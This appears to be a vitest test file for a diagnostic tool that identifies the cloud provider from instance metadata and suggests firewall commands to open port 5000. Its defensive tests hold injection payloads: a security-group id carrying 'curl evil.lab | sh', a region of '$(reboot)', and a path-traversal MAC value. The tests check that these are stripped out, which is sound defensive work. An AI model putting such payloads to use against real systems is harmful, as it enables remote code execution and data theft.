import {expect, test} from 'vitest'

import {
  type Asked,
  saidNoMore,
  says,
  saysByPath,
  saysForEver,
  saysNothing,
} from '../../rig/doctor/address-providers.js'
import {examineReached, quickClock, type Reached} from '../../rig/doctor/reached-bot.js'

const GOOGLE = {'Metadata-Flavor': 'Google'}
const MAC = '0a:1b:2c:3d:4e:5f'
const awsPath = (path: string) => `GET /latest/meta-data/${path}`
const googlePath = (path: string) => `GET /computeMetadata/v1/${path}`
const AZURE_PATH = 'GET /metadata/instance/compute?api-version=2021-02-01'

const AWS = {
  'PUT /latest/api/token': 'AQAAAOken==',
  [awsPath('instance-id')]: 'i-0abcdef1234567890',
  [awsPath('public-ipv4')]: '203.0.113.7',
  [awsPath('placement/region')]: 'ap-south-1',
  [awsPath('mac')]: MAC,
  [awsPath(`network/interfaces/macs/${MAC}/security-group-ids`)]: 'sg-0123\nsg-4567',
}

const clouds: readonly {
  readonly cloud: string
  readonly start: () => Promise<Asked>
  readonly summary: string
  readonly command: string
}[] = [
  {
    cloud: 'aws',
    start: () => saysByPath(AWS, {'x-aws-ec2-metadata-token': 'AQAAAOken=='}),
    summary: 'this machine is i-0abcdef1234567890 of AWS, 203.0.113.7 to the outside',
    command:
      'aws ec2 authorize-security-group-ingress --group-id sg-0123 --protocol tcp --port 5000 --cidr 0.0.0.0/0 --region ap-south-1',
  },
  {
    cloud: 'gcp',
    start: () =>
      saysByPath(
        {
          [googlePath('instance/name')]: {body: 'bot-1', headers: GOOGLE},
          [googlePath('instance/network-interfaces/0/network')]: 'projects/12345/networks/voice',
          [googlePath('project/project-id')]: 'bots-in',
        },
        {'metadata-flavor': 'Google'},
      ),
    summary: 'this machine is bot-1 of Google Cloud',
    command:
      'gcloud compute firewall-rules create exostream-5000 --network voice --direction INGRESS --allow tcp:5000 --source-ranges 0.0.0.0/0 --project bots-in',
  },
  {
    cloud: 'azure',
    start: () =>
      saysByPath(
        {
          [AZURE_PATH]: JSON.stringify({
            vmId: '02aab8a4-74ef-476e-8182-f6d2ba4166a6',
            name: 'bot-1',
            resourceGroupName: 'bots',
          }),
        },
        {metadata: 'true'},
      ),
    summary: 'this machine is bot-1 of Azure',
    command: 'az vm open-port --resource-group bots --name bot-1 --port 5000 --priority 900',
  },
  {
    cloud: 'digitalocean',
    start: () => saysByPath({'GET /metadata/v1/id': '123456'}),
    summary: 'this machine is 123456 of DigitalOcean',
    command: 'doctl compute firewall list-by-droplet 123456',
  },
  {
    cloud: 'hetzner',
    start: () => saysByPath({'GET /hetzner/v1/metadata/instance-id': '123456'}),
    summary: 'this machine is 123456 of Hetzner',
    command: 'hcloud firewall add-rule FIREWALL --direction in --protocol tcp --port 5000',
  },
  {
    cloud: 'oracle',
    start: () =>
      saysByPath(
        {'GET /opc/v2/instance/': '{"id": "ocid1.instance.oc1.bom.abc", "region": "ap-mumbai-1"}'},
        {authorization: 'Bearer Oracle'},
      ),
    summary: 'this machine is ocid1.instance.oc1.bom.abc of Oracle Cloud',
    command: '--region ap-mumbai-1',
  },
]

function lookFor(metadataUrl: string, reached: Reached = {}) {
  return examineReached('ws://bot.lab.in:5000/media', {
    ...reached,
    target: {wantsMetadata: true, ...reached.target},
    world: {metadataUrl: metadataUrl.replace(/\/$/, ''), ...reached.world},
  })
}

test.each(clouds)(
  '$cloud is known by its metadata, and how to open the port there',
  async (row) => {
    const {url} = await row.start()

    const {run, cloud} = await lookFor(url)

    expect(cloud).toMatchObject({status: 'pass', summary: row.summary})
    expect(cloud?.detail).toContain(row.command)
    expect(run.known.cloud).toBe(row.cloud)
  },
)

test('an id that would be more than a word in a shell is left out of the command', async () => {
  const group = 'sg-1; curl evil.lab | sh'
  const {url} = await saysByPath({
    ...AWS,
    [awsPath(`network/interfaces/macs/${MAC}/security-group-ids`)]: group,
    [awsPath('placement/region')]: '$(reboot)',
  })

  const {cloud} = await lookFor(url)

  expect(cloud?.detail).toContain('--group-id GROUP_ID --protocol tcp')
  expect(cloud?.detail).not.toMatch(/evil|reboot/)
})

test('a path is made of a hardware address alone', async () => {
  const asked = await saysByPath({...AWS, [awsPath('mac')]: '../../../user-data'})

  await lookFor(asked.url)

  expect(asked.requests.filter(({url}) => url?.includes('user-data'))).toEqual([])
})

test.each([
  ['a page for everything', async () => (await says('<html>Welcome</html>')).url],
  ['a number for nothing that is asked', async () => (await says('{}')).url],
  ['without end', async () => (await saysForEver()).url],
  ['not at all', async () => (await saysNothing()).url],
  ['no more', saidNoMore],
])('who answers %s is no cloud', async (_how, start) => {
  const {run, cloud} = await lookFor(await start(), {world: {clock: quickClock(5)}})

  expect(cloud?.status).toBe('skip')
  expect(cloud?.summary).toMatch(/^no cloud that is known here answers/)
  expect(run.known.cloud).toBeUndefined()
})

test.each([
  {name: 'without --metadata', reached: {target: {wantsMetadata: false}}},
  {name: 'under --offline', reached: {target: {isOffline: true}}},
  {name: 'without a network', reached: {known: {isOffline: true}}},
])('$name nobody is asked', async ({reached}) => {
  const asked = await saysByPath(AWS)

  const {cloud} = await lookFor(asked.url, reached)

  expect(cloud?.status).toBe('skip')
  expect(asked.requests).toEqual([])
})
